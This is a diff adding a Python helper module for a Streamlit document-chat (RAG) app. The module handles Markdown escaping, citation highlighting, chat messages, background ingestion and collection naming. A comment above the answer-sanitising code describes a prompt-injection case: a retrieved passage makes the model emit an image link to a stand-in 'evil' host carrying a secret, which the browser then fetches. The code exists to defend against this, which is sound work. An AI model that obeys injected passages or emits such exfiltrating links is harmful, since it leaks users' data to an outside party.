@@ -1,0 +1,580 @@
+"""What the Streamlit pages need that is not Streamlit: safe text, chat messages, background ingestion.
+
+Nothing here imports streamlit. The pages keep plain dicts (from ``answer_message`` /
+``stored_message``) in session state, render document text through ``escape_markdown`` (so a
+passage can never become a link, an image or HTML), and run uploads through ``IngestJob``, a
+background thread whose ``snapshot()`` the page polls; ingestion survives page switches and reruns.
+"""
+
+from __future__ import annotations
+
+import itertools
+import logging
+import re
+import threading
+import time
+import uuid
+from collections.abc import Callable, Iterable, Iterator, Sequence
+from dataclasses import dataclass, field, replace
+from pathlib import Path
+
+from .chat import Answer, Turn
+from .citations import page_ref
+from .errors import RagError
+from .history import StoredMessage
+from .ingest import Progress, Source
+from .models import FileResult, Hit
+
+logger = logging.getLogger(__name__)
+
+# -- Markdown safety ---------------------------------------------------------------------------------
+
+# Every ASCII punctuation character may be backslash-escaped in CommonMark and then renders as itself.
+# These are the ones Markdown, GFM or Streamlit's extensions (":color[...]", ":emoji:", "$math$") use.
+_MD_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~$:^&=\"'%@])")
+_LEADING_SPACE = re.compile(r"^[ \t]+", re.MULTILINE)
+_BLANK_LINES = re.compile(r"\n\s*\n\s*")
+_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
+
+
+def escape_markdown(text: str) -> str:
+    """Document text as Markdown that renders exactly as the text: no links, images, HTML or formatting.
+
+    Paragraph breaks (blank lines) are kept; single line breaks become spaces as in any paragraph.
+    """
+    text = _CONTROL.sub("", text.replace("\r\n", "\n").replace("\r", "\n"))
+    text = _LEADING_SPACE.sub("", text)  # four spaces would start a code block
+    text = _BLANK_LINES.sub("\n\n", text.strip())
+    return _MD_SPECIAL.sub(r"\\\1", text)
+
+
+# In generated answers formatting (lists, bold) is kept, but nothing may fetch or link anywhere:
+# a passage can instruct the model to emit ![x](https://evil/?q=secret), and the browser would fetch it.
+_ANSWER_SPECIAL = re.compile(r"([\[\]<>\\])")
+_SCHEME = re.compile(r"\b([a-zA-Z][a-zA-Z0-9+.-]{1,15}):(?=//|[^\s\d])")
+_WWW = re.compile(r"\b([wW]{3})\.")
+_EMAIL_AT = re.compile(r"(?<=\w)@(?=\w)")
+
+
+def safe_answer_markdown(text: str) -> str:
+    """An answer as Markdown with formatting kept but links, images, autolinks and HTML made literal."""
+    text = _CONTROL.sub("", text)
+    text = _ANSWER_SPECIAL.sub(r"\\\1", text)
+    text = _SCHEME.sub(r"\1\\:", text)
+    text = _WWW.sub(r"\1\\.", text)
+    return _EMAIL_AT.sub(r"\\@", text)
+
+
+def safe_stream(deltas: Iterable[str]) -> Iterator[str]:
+    """``safe_answer_markdown`` for a token stream: text is released at whitespace, so a URL split
+    across tokens is escaped as a whole."""
+    pending = ""
+    for delta in deltas:
+        pending += delta
+        cut = max(pending.rfind(" "), pending.rfind("\n"), pending.rfind("\t"))
+        if cut >= 0:
+            ready, pending = pending[: cut + 1], pending[cut + 1 :]
+            yield safe_answer_markdown(ready)
+    if pending:
+        yield safe_answer_markdown(pending)
+
+
+# -- finding the part of a passage an answer relies on -------------------------------------------------
+
+_SENTENCE = re.compile(r"[^\n.!?。！？]*(?:[.!?。！？]+|\n\n|$)", re.S)
+_WORD = re.compile(r"\w+", re.UNICODE)
+_HANGUL = re.compile(r"[\uac00-\ud7a3]")
+_STOP = frozenset(
+    "a an and are as at be been by can do does for from had has have how in into is it its of on or that the "
+    "their there these this those to was were what when where which who why will with you your".split()
+)
+_CITATION = re.compile(r"\[\s*(\d{1,3}(?:\s*[,;–-]\s*\d{1,3})*)\s*\]")
+
+
+def _terms(text: str) -> set[str]:
+    """Content words, plus character bigrams of Korean words (particles attach to nouns: 모델은, 모델이)."""
+    terms: set[str] = set()
+    for word in _WORD.findall(text.lower()):
+        if word in _STOP or (len(word) < 2 and not _HANGUL.match(word)):
+            continue
+        terms.add(word)
+        if _HANGUL.search(word) and len(word) > 1:
+            terms.update(word[i : i + 2] for i in range(len(word) - 1))
+    return terms
+
+
+def sentence_spans(text: str) -> list[tuple[int, int]]:
+    """(start, end) of each sentence, whitespace trimmed."""
+    spans = []
+    for m in _SENTENCE.finditer(text):
+        start, end = m.start(), m.end()
+        while start < end and text[start].isspace():
+            start += 1
+        while end > start and text[end - 1].isspace():
+            end -= 1
+        if end > start:
+            spans.append((start, end))
+    return spans
+
+
+def citing_text(answer: str, number: int) -> str:
+    """The sentences of an answer that cite source ``number``, markers removed."""
+    out = []
+    for start, end in sentence_spans(answer):
+        sentence = answer[start:end]
+        for m in _CITATION.finditer(sentence):
+            numbers = {int(n) for n in re.findall(r"\d+", m.group(1))}
+            if number in numbers:
+                out.append(_CITATION.sub("", sentence))
+                break
+    return " ".join(out)
+
+
+def best_span(passage: str, reference: str, *, min_overlap: int = 2) -> tuple[int, int] | None:
+    """The passage sentence sharing the most content words with ``reference`` (an answer's claims or
+    the question); None when nothing shares at least ``min_overlap`` of them."""
+    wanted = _terms(reference)
+    if not wanted:
+        return None
+    best, best_score = None, 0.0
+    for start, end in sentence_spans(passage):
+        terms = _terms(passage[start:end])
+        shared = len(terms & wanted)
+        if shared < min_overlap:
+            continue
+        score = shared / (len(terms) ** 0.5 + 1)  # favour dense matches over merely long sentences
+        if score > best_score:
+            best, best_score = (start, end), score
+    return best
+
+
+def passage_markdown(passage: str, span: tuple[int, int] | None, *, mark: str = "orange-background") -> str:
+    """The escaped passage, with ``span`` highlighted (Streamlit's ``:color[...]`` directive)."""
+    if span is None:
+        return escape_markdown(passage)
+    start, end = span
+    before, middle, after = passage[:start], passage[start:end], passage[end:]
+    parts = []
+    if before.strip():
+        parts.append(escape_markdown(before) + (" " if not before.endswith("\n\n") else "\n\n"))
+    parts.append(f":{mark}[{escape_markdown(middle)}]")
+    if after.strip():
+        parts.append(("\n\n" if after.startswith("\n\n") else " ") + escape_markdown(after))
+    return "".join(parts)
+
+
+# -- chat messages -------------------------------------------------------------------------------------
+
+
+def pages_label(source: dict) -> str:
+    """"4" or "4–5" (1-based) for a source dict."""
+    return page_ref(int(source.get("page", 0)), source.get("page_end")).split(" ", 1)[1]
+
+
+def answer_message(answer: Answer, *, notes: Sequence[str] = (), chat_id: str | None = None) -> dict:
+    """A session-state message for a fresh answer (everything the page needs to redraw it)."""
+    return {
+        "id": uuid.uuid4().hex,
+        "role": "assistant",
+        "content": answer.text,
+        "question": answer.question,
+        "standalone_query": answer.standalone_query,
+        "mode": answer.mode,
+        "sources": answer.sources(),
+        "error": answer.error,
+        "error_kind": answer.error_kind,
+        "incomplete": answer.incomplete,
+        "uncited": answer.uncited,
+        "dropped_sources": answer.dropped_sources,
+        "model": answer.model,
+        "notes": list(notes),
+        "chat_id": chat_id,
+    }
+
+
+def live_message(stream) -> dict:
+    """A message for an answer still streaming: its sources are known, citations not yet."""
+    return {
+        "id": "live",
+        "role": "assistant",
+        "content": "",
+        "question": stream.question,
+        "standalone_query": stream.standalone_query,
+        "mode": "streaming",
+        "sources": [{"n": n, "cited": False, **hit.to_dict()} for n, hit in enumerate(stream.hits, 1)],
+    }
+
+
+def user_message(text: str) -> dict:
+    return {"id": uuid.uuid4().hex, "role": "user", "content": text}
+
+
+def stored_message(message: StoredMessage, question: str = "") -> dict:
+    """A session-state message for one reopened from the history (fewer details were stored)."""
+    if message.role == "user":
+        return {"id": f"h{message.id}", "role": "user", "content": message.content}
+    return {
+        "id": f"h{message.id}",
+        "role": "assistant",
+        "content": message.content,
+        "question": question,
+        "standalone_query": message.standalone_query or question,
+        "mode": message.mode or "answer",
+        "sources": [dict(s) for s in message.sources],
+        "error": None,
+        "error_kind": None,
+        "incomplete": False,
+        "uncited": False,
+        "dropped_sources": 0,
+        "model": None,
+        "notes": [],
+    }
+
+
+def stored_messages(messages: Iterable[StoredMessage]) -> list[dict]:
+    out, question = [], ""
+    for m in messages:
+        if m.role == "user":
+            question = m.content
+        out.append(stored_message(m, question))
+    return out
+
+
+def history_turns(messages: Sequence[dict], limit: int = 6) -> list[Turn]:
+    """Earlier turns for follow-up rewriting: questions and real answers (not error notes)."""
+    turns = [
+        Turn(m["role"], m["content"])
+        for m in messages
+        if m["content"].strip() and (m["role"] == "user" or m.get("mode") == "answer")
+    ]
+    return turns[-limit:]
+
+
+@dataclass(frozen=True)
+class Notice:
+    """How to headline an answer: ``level`` is "success", "info", "warning" or "error"."""
+
+    level: str
+    text: str
+
+
+def answer_notices(message: dict) -> list[Notice]:
+    """What an answer is, said plainly: not found, search only, failed, cut off, uncited."""
+    mode, error = message.get("mode"), message.get("error")
+    notices = []
+    if mode == "not_found":
+        notices.append(
+            Notice(
+                "warning",
+                "Not found in your documents: no passage was relevant enough to answer from. "
+                "The nearest passages are below; lower the relevance threshold in the sidebar to use them.",
+            )
+        )
+    elif mode == "search_only":
+        notices.append(Notice("info", error or "Search only: no language model answered. Best passages below."))
+    elif mode == "error":
+        notices.append(Notice("error", error or "No answer could be produced."))
+    elif message.get("incomplete"):
+        notices.append(Notice("warning", "Incomplete answer: " + (error or "the answer was cut off.")))
+    if mode == "answer" and message.get("uncited") and not message.get("incomplete"):
+        notices.append(
+            Notice("warning", "This answer cites no source: check it against the passages below before relying on it.")
+        )
+    if message.get("dropped_sources"):
+        n = message["dropped_sources"]
+        notices.append(
+            Notice("info", f"{n} more passage{'s' if n != 1 else ''} did not fit the model's context window.")
+        )
+    notices.extend(Notice("info", note) for note in message.get("notes") or ())
+    return notices
+
+
+def source_rows(sources: Sequence[dict]) -> list[dict]:
+    """One table row per source; retriever columns left None where that retriever did not score it."""
+    return [
+        {
+            "#": s.get("n", i),
+            "cited": bool(s.get("cited")),
+            "file": s.get("file_name", "?"),
+            "page": pages_label(s),
+            "dense": s.get("dense_score"),
+            "lexical": s.get("lexical_score"),
+            "rerank": s.get("rerank_score"),
+            "score": s.get("score"),
+        }
+        for i, s in enumerate(sources, 1)
+    ]
+
+
+def highlight_reference(message: dict, source: dict) -> str:
+    """What to look for in a passage: the answer's sentences citing it, else the question searched."""
+    if message.get("mode") == "answer" and source.get("cited"):
+        claims = citing_text(message.get("content") or "", int(source.get("n", 0)))
+        if claims:
+            return claims
+    return message.get("standalone_query") or message.get("question") or ""
+
+
+# -- retrieval with the hybrid switch ------------------------------------------------------------------
+
+
+class Retriever:
+    """``retrieve(query, k)`` over one collection; asks for hybrid search when enabled and falls back
+    to dense search (with a note) while the library cannot do hybrid yet."""
+
+    def __init__(self, library, collection: str, *, hybrid: bool) -> None:
+        self.library = library
+        self.collection = collection
+        self.hybrid = hybrid
+        self.notes: list[str] = []
+
+    def __call__(self, query: str, k: int) -> list[Hit]:
+        if self.hybrid:
+            try:
+                return self.library.search(query, self.collection, k, mode="hybrid")
+            except RagError as e:
+                logger.info("hybrid search unavailable, using dense: %s", e)
+                self.notes.append(f"Hybrid search is not available ({e}); dense search was used.")
+        return self.library.search(query, self.collection, k, mode="dense")
+
+
+# -- background ingestion ------------------------------------------------------------------------------
+
+
+@dataclass(frozen=True)
+class CurrentFile:
+    name: str
+    index: int
+    total: int
+    pages_total: int | None
+    pages_done: int
+    chunks_done: int
+
+
+@dataclass(frozen=True)
+class JobSnapshot:
+    """A consistent view of a job for drawing: finished results in order, the file in progress."""
+
+    job_id: str
+    collection: str
+    total: int
+    results: tuple[FileResult, ...]
+    current: CurrentFile | None
+    done: bool
+    error: str | None
+    started_at: float
+    finished_at: float | None
+
+    @property
+    def fraction(self) -> float:
+        if self.total == 0:
+            return 1.0
+        part = 0.0
+        if self.current is not None and self.current.pages_total:
+            part = min(1.0, self.current.pages_done / self.current.pages_total)
+        return min(1.0, (len(self.results) + part) / self.total)
+
+    def counts(self) -> dict[str, int]:
+        out = {"ingested": 0, "replaced": 0, "duplicate": 0, "failed": 0}
+        for r in self.results:
+            out[r.status] = out.get(r.status, 0) + 1
+        return out
+
+
+class _JobProgress(Progress):
+    def __init__(self, job: IngestJob) -> None:
+        self.job = job
+
+    def file_started(self, name: str, index: int, total: int) -> None:
+        with self.job._lock:
+            self.job._current = CurrentFile(name, index, total, None, 0, 0)
+
+    def file_opened(self, name: str, n_pages: int) -> None:
+        with self.job._lock:
+            if self.job._current is not None:
+                self.job._current = replace(self.job._current, pages_total=n_pages)
+
+    def pages_done(self, name: str, n: int) -> None:
+        with self.job._lock:
+            if self.job._current is not None:
+                self.job._current = replace(self.job._current, pages_done=self.job._current.pages_done + n)
+
+    def chunks_done(self, name: str, n: int) -> None:
+        with self.job._lock:
+            if self.job._current is not None:
+                self.job._current = replace(self.job._current, chunks_done=self.job._current.chunks_done + n)
+
+    def file_finished(self, result: FileResult) -> None:
+        with self.job._lock:
+            self.job._results.append(result)
+            if self.job._current is not None and self.job._current.name == result.file_name:
+                self.job._current = None
+
+
+_job_ids = itertools.count(1)
+
+
+@dataclass
+class IngestJob:
+    """Ingest sources into a collection on a background thread; poll ``snapshot()`` to draw progress.
+
+    ``on_finished`` runs on the job's thread after the batch (e.g. to delete staged uploads).
+    """
+
+    library: object
+    sources: Sequence[Source]
+    collection: str
+    keep_both: bool = False
+    on_finished: Callable[[IngestJob], None] | None = None
+    job_id: str = field(default_factory=lambda: f"job{next(_job_ids)}-{uuid.uuid4().hex[:6]}")
+
+    def __post_init__(self) -> None:
+        self._lock = threading.Lock()
+        self._results: list[FileResult] = []
+        self._final: list[FileResult] | None = None
+        self._current: CurrentFile | None = None
+        self._error: str | None = None
+        self._done = threading.Event()
+        self._started_at = time.time()
+        self._finished_at: float | None = None
+        self._thread = threading.Thread(target=self._run, name=f"ingest-{self.job_id}", daemon=True)
+
+    def start(self) -> IngestJob:
+        self._thread.start()
+        return self
+
+    def _run(self) -> None:
+        try:
+            final = self.library.ingest(
+                list(self.sources), self.collection, keep_both=self.keep_both, progress=_JobProgress(self)
+            )
+            with self._lock:
+                self._final = final
+        except RagError as e:
+            logger.error("ingestion into %r failed: %s", self.collection, e)
+            with self._lock:
+                self._error = str(e)
+        except Exception as e:  # a thread has nobody to raise to: report it, or the page would wait forever
+            logger.exception("ingestion into %r crashed", self.collection)
+            with self._lock:
+                self._error = f"ingestion stopped by an unexpected error: {type(e).__name__}: {e}"
+        finally:
+            with self._lock:
+                self._current = None
+                self._finished_at = time.time()
+            if self.on_finished is not None:
+                try:
+                    self.on_finished(self)
+                except OSError as e:
+                    logger.warning("clean-up after ingestion failed: %s", e)
+            self._done.set()
+
+    def wait(self, timeout: float | None = None) -> bool:
+        return self._done.wait(timeout)
+
+    @property
+    def done(self) -> bool:
+        return self._done.is_set()
+
+    def snapshot(self) -> JobSnapshot:
+        with self._lock:
+            # The library's own list is authoritative and in input order once the batch is over.
+            results = tuple(self._final) if self._final is not None else tuple(self._results)
+            return JobSnapshot(
+                job_id=self.job_id,
+                collection=self.collection,
+                total=len(self.sources),
+                results=results,
+                current=self._current,
+                done=self._done.is_set(),
+                error=self._error,
+                started_at=self._started_at,
+                finished_at=self._finished_at,
+            )
+
+    def source_for(self, result: FileResult) -> Source | None:
+        """The Source a result came from (to retry it with a password)."""
+        for source in self.sources:
+            if str(source.path) == result.path and source.name == result.file_name:
+                return source
+        return None
+
+
+def needs_password(result: FileResult) -> bool:
+    return result.status == "failed" and result.error_kind == "password_required"
+
+
+def result_line(result: FileResult) -> str:
+    """One plain-text line describing a file's outcome."""
+    if result.status in ("ingested", "replaced"):
+        what = f"{result.pages} pages, {result.chunks} chunks in {result.seconds:.1f} s"
+        if result.status == "replaced":
+            what += " (replaced the earlier version with the same name)"
+        return what
+    if result.status == "duplicate":
+        return f"skipped: {result.reason or 'already in the collection'}"
+    return result.reason or "failed"
+
+
+def human_size(n_bytes: int) -> str:
+    size = float(n_bytes)
+    for unit in ("B", "KB", "MB", "GB"):
+        if size < 1024 or unit == "GB":
+            return f"{size:.0f} {unit}" if unit == "B" else f"{size:.1f} {unit}"
+        size /= 1024
+    return f"{size:.1f} GB"
+
+
+# -- staged uploads in use ------------------------------------------------------------------------------
+
+_staged_lock = threading.Lock()
+_staged_uses: dict[str, int] = {}
+
+
+def hold_staged(paths: Iterable[Path]) -> None:
+    """Mark staged uploads as in use (a job reading them, or a password prompt waiting for them)."""
+    with _staged_lock:
+        for p in paths:
+            _staged_uses[str(p)] = _staged_uses.get(str(p), 0) + 1
+
+
+def release_staged(paths: Iterable[Path], data_dir: Path) -> None:
+    """Drop one use of each path; a staged upload nobody uses any more is deleted."""
+    from .uploads import discard_upload
+
+    with _staged_lock:
+        for p in paths:
+            left = _staged_uses.get(str(p), 0) - 1
+            if left > 0:
+                _staged_uses[str(p)] = left
+                continue
+            _staged_uses.pop(str(p), None)
+            discard_upload(Path(p), data_dir)
+
+
+def release_finished_uploads(job: IngestJob, data_dir: Path) -> None:
+    """``on_finished`` for upload jobs: let go of every staged file, except those waiting for a
+    password, which stay held until the user retries or dismisses them."""
+    snapshot = job.snapshot()
+    waiting = {r.path for r in snapshot.results if needs_password(r)}
+    release_staged([Path(s.path) for s in job.sources if str(s.path) not in waiting], data_dir)
+
+
+# -- collections ---------------------------------------------------------------------------------------
+
+_COLLECTION_NAME = re.compile(r"[A-Za-z0-9][A-Za-z0-9._-]{1,126}[A-Za-z0-9]")
+
+
+def collection_name_problem(name: str) -> str | None:
+    """Why ``name`` cannot name a collection (the vector store's rules), or None when it can."""
+    name = name.strip()
+    if not name:
+        return "Enter a name."
+    if not _COLLECTION_NAME.fullmatch(name):
+        return (
+            "Use 3 to 128 characters: English letters, digits, '.', '_' or '-', starting and ending "
+            "with a letter or digit (the vector store does not accept other characters)."
+        )
+    if ".." in name:
+        return "A name may not contain '..'."
+    return None
